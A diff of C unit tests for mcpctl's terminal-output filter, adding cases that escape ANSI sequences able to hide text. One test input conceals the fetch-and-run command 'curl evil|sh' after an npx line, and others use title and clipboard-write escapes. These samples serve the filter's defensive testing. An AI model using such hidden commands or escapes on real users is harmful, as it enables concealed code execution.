@@ -40,9 +40,17 @@ static void test_filter(void)
     /* Text, newlines and tabs as they are; UTF-8 letters too. */
     expect("plain text\n\tindented caf\xc3\xa9 \xc2\xa9\n",
            "plain text\n\tindented caf\xc3\xa9 \xc2\xa9\n");
-    /* Colours (mcpctl's own, and any SGR) pass. */
+    /* mcpctl's own colours pass. */
     expect("\033[32mconnected\033[0m", "\033[32mconnected\033[0m");
-    expect("\033[38;5;255mx\033[m", "\033[38;5;255mx\033[m");
+    expect("\033[1;31mx\033[m", "\033[1;31mx\033[m");
+    /*
+     * Issue 39.4: anything that can hide text is shown, not sent: concealed, faint, backgrounds,
+     * dark or chosen foregrounds.
+     */
+    expect("npx pkg\033[8m; curl evil|sh\033[0m", "npx pkg^[[8m; curl evil|sh\033[0m");
+    expect("\033[30;40mhidden", "^[[30;40mhidden");
+    expect("\033[38;5;16mx", "^[[38;5;16mx");
+    expect("\033[2mx\033[0;8my", "^[[2mx^[[0;8my");
     /* Title, clipboard, cursor, erase, bell, carriage return, DEL: shown, not sent. */
     expect("a\033]0;pwned\007b", "a^[]0;pwned^Gb");
     expect("\033]52;c;ZXZpbA==\033\\", "^[]52;c;ZXZpbA==^[\\");
